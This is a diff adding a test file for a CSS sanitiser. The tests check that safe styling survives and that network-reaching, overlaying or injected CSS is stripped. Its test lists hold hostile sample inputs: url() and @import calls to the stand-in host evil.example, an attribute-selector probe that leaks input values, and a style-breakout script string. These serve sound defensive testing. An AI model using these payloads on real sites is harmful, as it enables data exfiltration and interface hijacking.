@@ -1,0 +1,76 @@
+import { describe, expect, test } from 'vitest'
+import { cleanCss } from './clean-css.ts'
+
+const assets = ['paper.png', 'img/wood.webp']
+const clean = (css: string) => cleanCss(css, assets)
+
+test('colors, fonts, borders, shadows and own images stay', () => {
+  const css = `.mantine-Paper-root{border-radius:4px;box-shadow:0 2px 8px #0003;background:url(./paper.png) repeat}
+@media (width>700px){h1{font-family:Georgia,serif;letter-spacing:.02em}}`
+
+  const { css: left, leftOut } = clean(css)
+
+  expect(leftOut).toEqual([])
+  expect(left).toContain('url(./paper.png)')
+  expect(left).toContain('font-family:Georgia,serif')
+})
+
+describe('what could reach the network is left out', () => {
+  test.each([
+    '@import url(https://evil.example/a.css);',
+    '@font-face{font-family:x;src:url(https://evil.example/a.woff2)}',
+    'a{background:url(https://evil.example/a.png)}',
+    'a{background:url("//evil.example/a.png")}',
+    'a{background:URL( "h\\74tps://evil.example/a.png" )}',
+    'a{background-image:image-set("https://evil.example/a.png" 1x)}',
+    'a{background-image:-webkit-image-set(url(https://evil.example/a.png) 1x)}',
+    'a{background:url(other.png)}',
+    'a{background:url(data:image/svg+xml,<svg/>)}',
+    'a{--x:url(https://evil.example/a.png);color:var(--x)}',
+    'input[value^=a]{background:url(https://evil.example/?a)}',
+  ])('%s', (css) => {
+    const { css: left, leftOut } = clean(css)
+
+    expect(left).not.toMatch(/evil|url\(|image-set|data:/i)
+    expect(leftOut.length).toBeGreaterThan(0)
+  })
+})
+
+describe('what could cover, move or hide controls is left out', () => {
+  test.each([
+    'a{position:fixed;inset:0}',
+    'a{box-shadow:0 0 0 9999px red}',
+    'a{border:200px solid red}',
+    'a{border:100vw solid red}',
+    'a{display:none}',
+    'a{opacity:0}',
+    'a{transform:scale(90)}',
+    'a{margin:-900px}',
+    'a{z-index:99}',
+    'a{font-size:0}',
+    'a{pointer-events:none}',
+    'a{visibility:hidden}',
+    'a::before{color:red}',
+    'a:after{color:red}',
+    'a{content:"x"}',
+    ':root{--ik-online:#f00}',
+    '@keyframes x{to{color:red}}',
+    '@layer reset{a{color:red}}',
+    '@property --x{syntax:"*";inherits:false}',
+  ])('%s', (css) => {
+    const { css: left, leftOut } = clean(css)
+
+    expect(left).toBe('')
+    expect(leftOut.length).toBeGreaterThan(0)
+  })
+})
+
+test('what was left out is listed with its line, and the list has an end', () => {
+  expect(clean('a{color:red}\nb{position:fixed}').leftOut).toEqual(['position (line 2)'])
+  expect(clean('b{position:fixed}'.repeat(500)).leftOut).toHaveLength(20)
+})
+
+test('what cannot be parsed is left out', () => {
+  expect(clean('}}}} a{color:red').css).not.toContain('}}')
+  expect(clean('</style><script>alert(1)</script>').css).not.toMatch(/[<>]/)
+})
